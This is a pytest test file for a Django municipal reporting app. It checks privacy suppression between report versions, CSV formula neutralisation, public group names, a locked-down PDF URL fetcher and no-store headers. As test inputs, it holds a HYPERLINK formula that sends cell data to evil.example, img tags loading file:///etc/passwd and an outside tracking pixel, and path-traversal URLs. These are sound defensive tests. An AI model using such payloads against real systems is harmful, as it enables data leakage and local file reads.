"""Issue 9 (reporting): no differencing between versions, CSV injection, public group names, a
URL fetcher that fetches nothing from outside, the dashboard of a one-team coordinator, no-store."""

import datetime

import pytest
from django.urls import reverse
from django.utils import translation

from groups.models import Attendance
from reporting import csv_export, presentation, services
from reporting.models import QuarterlyReport
from reporting.pdf import ReportURLFetcher, static_roots
from tests.factories import (
    AttendanceFactory,
    GroupFactory,
    MembershipFactory,
    ParticipantFactory,
    SessionFactory,
    TeamFactory,
    UserFactory,
)

from .conftest import pdf_text, read_pdf

D = datetime.date


def _new_version(report_data, coordinator):
    """Version 2 of 2024Q3, rendered and approved."""
    report = services.prepare_report(report_data.municipality, 2024, 3, coordinator)
    assert services.render_report_now(report.pk)
    report.refresh_from_db()
    services.approve_report(report, coordinator, report.sha256)
    report.refresh_from_db()
    return report


def _one_more_resident(report_data, team):
    """A resident registered late: present at one Wandelclub session in the quarter."""
    person = ParticipantFactory(team=team, neighbourhood=None, first_name="Laat", last_name="Geregistreerd")
    session = report_data.groups[1].sessions.order_by("date").first()
    AttendanceFactory(session=session, participant=person, status=Attendance.Status.PRESENT)


# --- Versions -----------------------------------------------------------------------------------


def test_the_municipality_sees_only_the_latest_approved_version(
    approved_report, report_data, coordinator, team_a, client_for, municipality_user
):
    _one_more_resident(report_data, team_a)
    second = _new_version(report_data, coordinator)
    assert second.version == 2
    client = client_for(municipality_user)
    for name in ("reporting:report", "reporting:report_pdf", "reporting:report_csv"):
        assert client.get(reverse(name, args=[approved_report.pk])).status_code == 404, name
        assert client.get(reverse(name, args=[second.pk])).status_code == 200, name
    listed = client.get(reverse("reporting:reports")).context["page"].object_list
    assert [report.pk for report in listed] == [second.pk]
    # Coordinators still see every version.
    client = client_for(coordinator)
    assert client.get(reverse("reporting:report", args=[approved_report.pk])).status_code == 200
    assert QuarterlyReport.objects.for_user(coordinator).count() == 2


def test_a_new_version_hides_a_change_of_one_resident(approved_report, report_data, coordinator, team_a):
    assert approved_report.figures["kpis"]["residents_collective"] == 9
    _one_more_resident(report_data, team_a)
    second = _new_version(report_data, coordinator)
    kpis = second.figures["kpis"]
    # 9 -> 10: subtracting the versions would give one resident.
    assert kpis["residents_collective"] == "x"
    assert kpis["by_neighbourhood"][""] == "<5"
    (row,) = [row for row in second.figures["trend"] if row["label"] == "2024Q3"]
    assert row["residents_collective"] == "x"


def test_published_figures_gathers_every_approved_column_of_a_period(approved_report, report_data):
    found = services.published_figures(report_data.municipality, {"2024Q3", "2023Q3", "2024Q2", "2020Q1"})
    assert found["2024Q3"][0] == approved_report.figures["kpis"]
    assert any(part.get("label") == "2024Q3" for part in found["2024Q3"])  # its trend row
    assert found["2023Q3"] and found["2024Q2"] and found["2020Q1"] == []
    assert services.published_figures(report_data.municipality, {"2024Q3"}, exclude_pk=approved_report.pk) == {
        "2024Q3": []}


# --- CSV injection --------------------------------------------------------------------------------


@pytest.mark.parametrize("text", ["=HYPERLINK(\"http://x\",\"y\")", "+31 6", "-x", "@SUM(A1)", "\tx", "\rx"])
def test_a_cell_that_could_be_a_formula_is_neutralised(text):
    assert csv_export.neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["12", "-3", "83%", "<5", "x", "", "2024Q3", "2024-07-01", "Collectief 1"])
def test_numbers_and_plain_text_stay_as_they_are(text):
    assert csv_export.neutralise(text) == text


def test_a_group_named_like_a_formula_is_neutralised_in_the_csv(report_data, coordinator, client_for):
    geld_telt = report_data.groups[0]
    geld_telt.public_name = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
    geld_telt.save(update_fields=["public_name"])
    report = services.prepare_report(report_data.municipality, 2024, 3, coordinator)
    assert services.render_report_now(report.pk)
    content = client_for(coordinator).get(reverse("reporting:report_csv", args=[report.pk])).content.decode("utf-8")
    assert "'=HYPERLINK" in content
    assert ";=" not in content and not any(line.startswith("=") for line in content.splitlines())


# --- Public group names ---------------------------------------------------------------------------


def test_the_municipality_reads_public_names_never_internal_ones(report_data, coordinator, municipality_user,
                                                                client_for):
    wandelclub = report_data.groups[1]
    wandelclub.public_name = "Wandelgroep Huizum"
    wandelclub.save(update_fields=["public_name"])
    report = services.prepare_report(report_data.municipality, 2024, 3, coordinator)
    assert services.render_report_now(report.pk)
    report.refresh_from_db()
    services.approve_report(report, coordinator, report.sha256)
    client = client_for(municipality_user)
    csv = client.get(reverse("reporting:report_csv", args=[report.pk])).content.decode("utf-8")
    pdf = pdf_text(read_pdf(report))
    number = sorted(g.pk for g in report_data.groups).index(report_data.groups[0].pk) + 1
    with translation.override("nl"):
        neutral = presentation.neutral_group_name(number, "Financiën")  # "Collectief 1 (Financiën)"
    for text in (csv, pdf):
        assert "Geld Telt" not in text and "Wandelclub" not in text
        assert "Wandelgroep Huizum" in text
        assert neutral in text
    # The internal dashboard keeps the internal names.
    dashboard = client_for(coordinator).get(reverse("reporting:dashboard"), {"period": "2024Q3"})
    assert "Geld Telt" in dashboard.content.decode()


def test_reports_frozen_before_issue_9_get_neutral_names_in_the_csv(approved_report):
    figures = dict(approved_report.figures, schema=1)
    figures["kpis"] = dict(figures["kpis"], participants_per_group=[
        dict(row, group="Groep van Jan") for row in figures["kpis"]["participants_per_group"]])
    approved_report.figures = figures  # in memory only: the stored report is frozen
    content = csv_export.render_csv(approved_report).decode("utf-8")
    with translation.override("nl"):
        assert "Groep van Jan" not in content and presentation.neutral_group_name(1) in content


# --- WeasyPrint fetches nothing from outside ------------------------------------------------------


@pytest.mark.parametrize("url", ["http://example.com/x.png", "https://example.com/x.css", "file:///etc/passwd",
                                 "ftp://example.com/x", "file:///tmp/../etc/passwd"])
def test_the_fetcher_refuses_everything_but_data_and_static_files(url):
    with pytest.raises(ValueError):
        ReportURLFetcher().fetch(url)


def test_the_fetcher_reads_data_urls_and_the_reports_own_css():
    fetcher = ReportURLFetcher()
    assert fetcher.fetch("data:text/plain,hallo").read() == b"hallo"
    css = static_roots()[-1] / "report.css"
    assert fetcher.fetch(css.as_uri()).read()


def test_a_note_or_group_name_with_a_url_fetches_nothing(report_data, coordinator, monkeypatch):
    fetched = []
    original = ReportURLFetcher.fetch

    def recording(self, url, headers=None):
        fetched.append(url)
        return original(self, url, headers)

    monkeypatch.setattr(ReportURLFetcher, "fetch", recording)
    geld_telt = report_data.groups[0]
    geld_telt.public_name = '<img src="file:///etc/passwd">'
    geld_telt.save(update_fields=["public_name"])
    report = services.prepare_report(report_data.municipality, 2024, 3, coordinator)
    QuarterlyReport.objects.filter(pk=report.pk).update(note='<img src="http://evil.example/pixel.png"> Zie bijlage')
    report.refresh_from_db()
    content = services.render_report_pdf(report)
    assert content.startswith(b"%PDF")
    assert not [url for url in fetched if "evil.example" in url or "/etc/passwd" in url]
    roots = [root.resolve().as_uri() for root in static_roots()]
    assert all(url.startswith("data:") or any(url.startswith(root) for root in roots) for url in fetched)


# --- Dashboard of a one-team coordinator ----------------------------------------------------------


@pytest.fixture
def second_team_group(report_data, municipality):
    """Team Zuid in the same municipality, with a group of 5 residents in the quarter."""
    team = TeamFactory(municipality=municipality, name="Wijkteam Zuid")
    group = GroupFactory(name="Kookgroep Zuid", kind_id="support", team=team, start_date=D(2024, 1, 1))
    session = SessionFactory(group=group, date=D(2024, 8, 6))
    for i in range(5):
        person = ParticipantFactory(team=team, first_name=f"Zuid{i}")
        AttendanceFactory(session=session, participant=person, status=Attendance.Status.PRESENT)
    return team


def test_a_one_team_coordinator_sees_only_their_teams_groups(second_team_group, coordinator, client_for):
    response = client_for(coordinator).get(reverse("reporting:dashboard"), {"period": "2024Q3"})
    assert response.status_code == 200
    assert [row["group"] for row in response.context["group_rows"]] == ["Geld Telt", "Wandelclub"]
    assert "Kookgroep Zuid" not in response.content.decode()
    # Municipality totals stay municipality-wide (DESIGN): 9 + 5 residents, 3 active groups.
    assert response.context["kpis"]["residents_collective"] == 14
    assert response.context["kpis"]["groups_active"] == 3
    assert response.context["own_teams_only"]


def test_a_coordinator_of_both_teams_and_an_administrator_see_every_group(
    second_team_group, coordinator, administrator, client_for
):
    both = UserFactory(username="coordinator-both")
    MembershipFactory(user=both, team=second_team_group, role="coordinator")
    MembershipFactory(user=both, team=coordinator.memberships.get().team, role="coordinator")
    for user in (both, administrator):
        response = client_for(user).get(reverse("reporting:dashboard"), {"period": "2024Q3"})
        assert {row["group"] for row in response.context["group_rows"]} == {"Geld Telt", "Wandelclub",
                                                                            "Kookgroep Zuid"}
    assert not response.context["own_teams_only"]


def test_the_data_quality_panel_lists_only_the_own_teams_groups(second_team_group, coordinator, client_for):
    SessionFactory(group=second_team_group.groups.get(), date=D(2024, 9, 3))  # held, nobody marked
    response = client_for(coordinator).get(reverse("reporting:dashboard"), {"period": "2024Q3"})
    quality = response.context["quality"]
    assert all(s.group.team_id != second_team_group.pk for s in quality["sessions_without_attendance"])
    assert quality["sessions_without_attendance_count"] == 0


# --- No-store ---------------------------------------------------------------------------------------


def test_every_reporting_page_and_download_says_no_store(approved_report, coordinator, municipality_user,
                                                        client_for):
    urls = [reverse("reporting:dashboard"), reverse("reporting:reports"),
            reverse("reporting:report", args=[approved_report.pk]),
            reverse("reporting:report_status", args=[approved_report.pk]),
            reverse("reporting:report_pdf", args=[approved_report.pk]),
            reverse("reporting:report_csv", args=[approved_report.pk])]
    client = client_for(coordinator)
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, url
        assert "no-store" in response["Cache-Control"], url
    client = client_for(municipality_user)
    for url in urls[1:3] + urls[4:]:
        assert "no-store" in client.get(url)["Cache-Control"], url
    response = client_for(coordinator).post(reverse("reporting:generate"), {})
    assert "no-store" in response["Cache-Control"]
